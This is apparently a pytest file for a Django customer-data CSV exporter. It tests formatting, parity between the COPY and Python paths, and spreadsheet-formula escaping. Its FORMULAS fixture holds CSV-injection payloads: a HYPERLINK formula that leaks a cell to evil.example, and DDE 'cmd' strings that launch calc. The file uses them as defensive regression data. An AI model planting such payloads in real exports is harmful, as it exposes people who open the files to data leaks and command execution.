"""CSV loader: customers.csv with a header, the COPY fast path and the Python path agree."""

import csv
import io

import pytest
from django.core.files.storage import FileSystemStorage

from cdp.models import CustomerEntity
from loaders.base import ConfigError, LoadContext
from loaders.csv_file import cell
from loaders.registry import loader_for

ATTRIBUTES = {
    "ps_email_address": ["jane@example.com", "j.doe@work.io"],
    "first_name": ["Jane"],
    "orders": [3],
    "vip": [True],
    "note": ['says "hi", then\nleaves'],
}


@pytest.fixture
def storage(tmp_path):
    return FileSystemStorage(location=tmp_path)


def rows_of(storage, name):
    with storage.open(name) as f:
        return list(csv.reader(io.StringIO(f.read().decode("utf-8"))))


def test_cell_format():
    assert cell(None) == "" and cell([]) == ""
    assert cell(["a"]) == "a" and cell([3]) == "3" and cell([True]) == "true" and cell([1.5]) == "1.5"
    assert cell(["a", "b"]) == '["a", "b"]'


def test_python_path_writes_header_and_rows(storage):
    loader = loader_for("csv", {"attributes": ["ps_email_address", "first_name", "orders", "vip", "note", "missing"]})
    context = LoadContext(export_id=5, storage=storage)
    people = [{"id": "a" * 32, "attributes": ATTRIBUTES}, {"id": "b" * 32, "attributes": {}}]
    result = loader.load(people, context=context)
    assert result.sent == 2 and result.details["file"] == "exports/5/customers.csv"
    rows = rows_of(storage, "exports/5/customers.csv")
    assert rows[0] == ["customer_entity_id", "ps_email_address", "first_name", "orders", "vip", "note", "missing"]
    assert rows[1] == [
        "a" * 32,
        '["jane@example.com", "j.doe@work.io"]',
        "Jane",
        "3",
        "true",
        'says "hi", then\nleaves',
        "",
    ]
    assert rows[2] == ["b" * 32, "", "", "", "", "", ""]


def test_copy_path_matches_the_python_path(db, storage):
    entities = [CustomerEntity.objects.create(attributes=ATTRIBUTES), CustomerEntity.objects.create(attributes={})]
    ids = sorted(e.id for e in entities)
    columns = ["ps_email_address", "first_name", "orders", "vip", "note"]
    loader = loader_for("csv", {"attributes": columns})
    progress = []
    copy_context = LoadContext(
        export_id="copy",
        storage=storage,
        members_sql=("SELECT id FROM customer_entities WHERE id = ANY(%s)", [ids]),
        checkpoint=lambda **kw: progress.append(kw["sent"]),
    )
    result = loader.load([], context=copy_context)
    assert result.sent == 2 and progress[-1] == 2
    people = [{"id": e.id, "attributes": e.attributes} for e in sorted(entities, key=lambda e: e.id)]
    loader.load(people, context=LoadContext(export_id="py", storage=storage))
    condition = LoadContext(export_id="where", storage=storage, members_condition=("e.id = ANY(%s)", [ids]))
    loader.load([], context=condition)
    assert rows_of(storage, "exports/copy/customers.csv") == rows_of(storage, "exports/py/customers.csv")
    assert rows_of(storage, "exports/where/customers.csv") == rows_of(storage, "exports/py/customers.csv")


def test_destination_attributes_are_added_and_delimiter_is_configurable(storage):
    loader = loader_for("csv", {"attributes": ["first_name"], "delimiter": ";", "file_name": "vip.csv"})
    context = LoadContext(storage=storage, attributes=["first_name", "orders"])
    loader.load([{"id": "a" * 32, "attributes": ATTRIBUTES}], context=context)
    with storage.open("exports/adhoc/vip.csv") as f:
        assert f.read().decode().splitlines() == ["customer_entity_id;first_name;orders", f"{'a' * 32};Jane;3"]


def test_a_failed_write_leaves_no_partial_file(storage):
    def boom():
        yield {"id": "a" * 32, "attributes": {}}
        raise RuntimeError("source failed")

    with pytest.raises(RuntimeError):
        loader_for("csv", {}).load(boom(), context=LoadContext(storage=storage, export_id=9))
    assert not storage.exists("exports/9/customers.csv")
    assert storage.listdir("exports/9")[1] == []


def test_file_name_must_be_plain():
    with pytest.raises(ConfigError):
        loader_for("csv", {"file_name": "a/b.csv"})


@pytest.mark.django_db(transaction=True)
def test_copy_reports_progress_while_streaming(storage, monkeypatch):
    """Progress is written on Django's connection while COPY streams on its own (no self-deadlock)."""
    from django.db import connection

    from loaders import csv_file

    monkeypatch.setattr(csv_file, "PROGRESS_EVERY", 50)
    CustomerEntity.objects.bulk_create(
        [CustomerEntity(id=f"{i:032x}", attributes={"first_name": [f"N{i}"]}) for i in range(400)]
    )
    progress = []

    def checkpoint(**kw):
        with connection.cursor() as cursor:  # what the export engine does: an UPDATE per progress report
            cursor.execute("SELECT 1")
        progress.append(kw["sent"])

    context = LoadContext(
        export_id="progress",
        storage=storage,
        members_sql=("SELECT id FROM customer_entities", []),
        checkpoint=checkpoint,
    )
    result = loader_for("csv", {"attributes": ["first_name"]}).load([], context=context)
    assert result.sent == 400
    assert len(progress) >= 8 and progress[-1] == 400
    assert len(rows_of(storage, "exports/progress/customers.csv")) == 401


FORMULAS = {
    "first_name": ['=HYPERLINK("https://evil.example/?"&A1, "Click")'],
    "note": ["@SUM(1+1)*cmd|' /C calc'!A0"],
    "city": ["+cmd|' /C calc'!A0"],
    "tab": ["\t=1+1"],
    "minus": ["-2+3+cmd|' /C calc'!A0"],
    "phone": ["+44 20 7946 0958"],
    "balance": [-5],
    "debt": ["-1.5"],
    "plain": ["Jane = Joe"],
}


def test_cells_a_spreadsheet_would_run_as_formulas_are_escaped_in_both_paths(db, storage):
    """A customer's attribute value `=HYPERLINK(...)` (from a sign-up form, an event) went into customers.csv as it
    was: opened in a spreadsheet, it ran. Such cells now start with `'`; numbers and phone numbers stay as they are."""
    entity = CustomerEntity.objects.create(attributes=FORMULAS)
    columns = list(FORMULAS)
    loader = loader_for("csv", {"attributes": columns})
    members = ("SELECT id FROM customer_entities WHERE id = %s", [entity.id])

    loader.load([], context=LoadContext(export_id="copy", storage=storage, members_sql=members))
    loader.load([{"id": entity.id, "attributes": FORMULAS}], context=LoadContext(export_id="py", storage=storage))

    expected = [
        entity.id,
        "'" + FORMULAS["first_name"][0],
        "'" + FORMULAS["note"][0],
        "'" + FORMULAS["city"][0],
        "'\t=1+1",
        "'" + FORMULAS["minus"][0],
        "+44 20 7946 0958",
        "-5",
        "-1.5",
        "Jane = Joe",
    ]
    assert rows_of(storage, "exports/copy/customers.csv")[1] == expected
    assert rows_of(storage, "exports/py/customers.csv")[1] == expected


def test_spreadsheet_safe_off_writes_values_as_they_are(db, storage):
    entity = CustomerEntity.objects.create(attributes=FORMULAS)
    loader = loader_for("csv", {"attributes": list(FORMULAS), "spreadsheet_safe": False})
    members = ("SELECT id FROM customer_entities WHERE id = %s", [entity.id])

    loader.load([], context=LoadContext(export_id="raw", storage=storage, members_sql=members))

    row = rows_of(storage, "exports/raw/customers.csv")[1]
    assert row[1] == FORMULAS["first_name"][0] and row[4] == "\t=1+1"
